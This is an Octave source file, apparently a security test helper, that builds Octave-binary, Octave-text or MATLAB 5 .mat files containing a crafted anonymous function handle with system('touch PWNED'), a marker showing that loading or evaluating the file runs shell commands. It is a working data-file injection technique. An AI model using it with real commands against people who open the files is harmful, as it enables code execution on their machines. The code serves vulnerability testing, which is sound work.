function bytes = with_command (name, sound)
%WITH_COMMAND  A file with a value more: a function handle whose text, where it is evaluated, makes the file PWNED.
%   BYTES = with_command (NAME, SOUND) has the variables of the file NAME, whose bytes are SOUND; [] for a file of another
%   format than Octave's own and MATLAB's 5 to 7.

% SPDX-License-Identifier: BSD-3-Clause
  words = '{@(x) x, system(''touch PWNED'')}{1}';
  start = char (sound(1:min (20, end)));
  bytes = [];
  if (strncmp (start, 'MATLAB 5', 8))
    bytes = matlab_file (sound, words);
  elseif (strncmp (start, 'Octave-1', 8))
    bytes = octave_file (name, '-binary', words);
  elseif (strncmp (start, '# Created', 9))
    bytes = octave_file (name, '-text', words);
  end
end

% Octave writes a handle of as many letters, which the words take the place of.
function bytes = octave_file (name, form, words)
  content = load (name);
  body = ['@(x) ', repmat('1', 1, numel (words) - 5)];
  content.W = eval (body);
  made = tempname ();
  save (form, made, '-struct', 'content');
  bytes = sl_bytes (made);
  unlink (made);
  at = strfind (char (bytes), body);
  bytes(at:at+numel (body)-1) = words;
end

% Octave writes no handles in this format, but reads those of MATLAB: a struct, and at the end of the file the element of
% the subsystem, which holds its workspace.
function bytes = matlab_file (sound, words)
  handle = matrix (16, [1, 1], 'W', structure ({'matlabroot', text('/m'), 'separator', text('/'), 'sentinel', text('@'), ...
    'function_handle', structure({'function', text(['sf0@', words]), 'type', text('anonymous'), 'file', text(''), ...
                                  'workspace', workspace(), 'within_file_path', text('')})}));
  pair = cell_of ({numbers(0), structure({'a', numbers(1)})});
  system_part = [uint8([0, 1, double('IM'), 0, 0, 0, 0]), structure({'MCOS', structure({'MCOS', cell_of({numbers(0), pair, pair, pair})})})];
  last = matrix (9, [1, numel(system_part)], '', element (2, system_part));
  body = [handle, sound(129:end)];
  bytes = [sound(1:116), typecast(uint64 (128 + numel (body)), 'uint8'), uint8([0, 1, double('IM')]), body, last];
end

function bytes = element (type, content)
  content = uint8 (content);
  bytes = [typecast(uint32 ([type, numel(content)]), 'uint8'), content, zeros(1, mod (- numel (content), 8), 'uint8')];
end

function bytes = matrix (class, sizes, name, content)
  bytes = element (14, [element(6, typecast (uint32 ([class, 0]), 'uint8')), ...
                        element(5, typecast (int32 (sizes), 'uint8')), element(1, name), content]);
end

function bytes = text (words)
  sizes = [1, numel(words)] * ~ isempty (words);
  bytes = matrix (4, sizes, '', element (4, typecast (uint16 (words), 'uint8')));
end

function bytes = numbers (values)
  bytes = matrix (6, [1, numel(values)], '', element (9, typecast (double (values), 'uint8')));
end

function bytes = cell_of (items)
  bytes = matrix (1, [1, numel(items)], '', [items{:}]);
end

function bytes = structure (fields)
  names = cellfun (@(name) [name, char(zeros (1, 32 - numel (name)))], fields(1:2:end), 'UniformOutput', false);
  bytes = matrix (2, [1, 1], '', [typecast(uint16 ([5, 4]), 'uint8'), typecast(int32 (32), 'uint8'), ...
                                  element(1, [names{:}]), fields{2:2:end}]);
end

function bytes = workspace ()
  inner = matrix (13, [6, 1], '', element (6, typecast (uint32 ([hex2dec('dd000000'), 2, 1, 1, 1, 1]), 'uint8')));
  bytes = element (14, [element(6, typecast (uint32 ([17, 0]), 'uint8')), element(1, ''), element(1, 'MCOS'), ...
                        element(1, 'function_handle_workspace'), inner]);
end
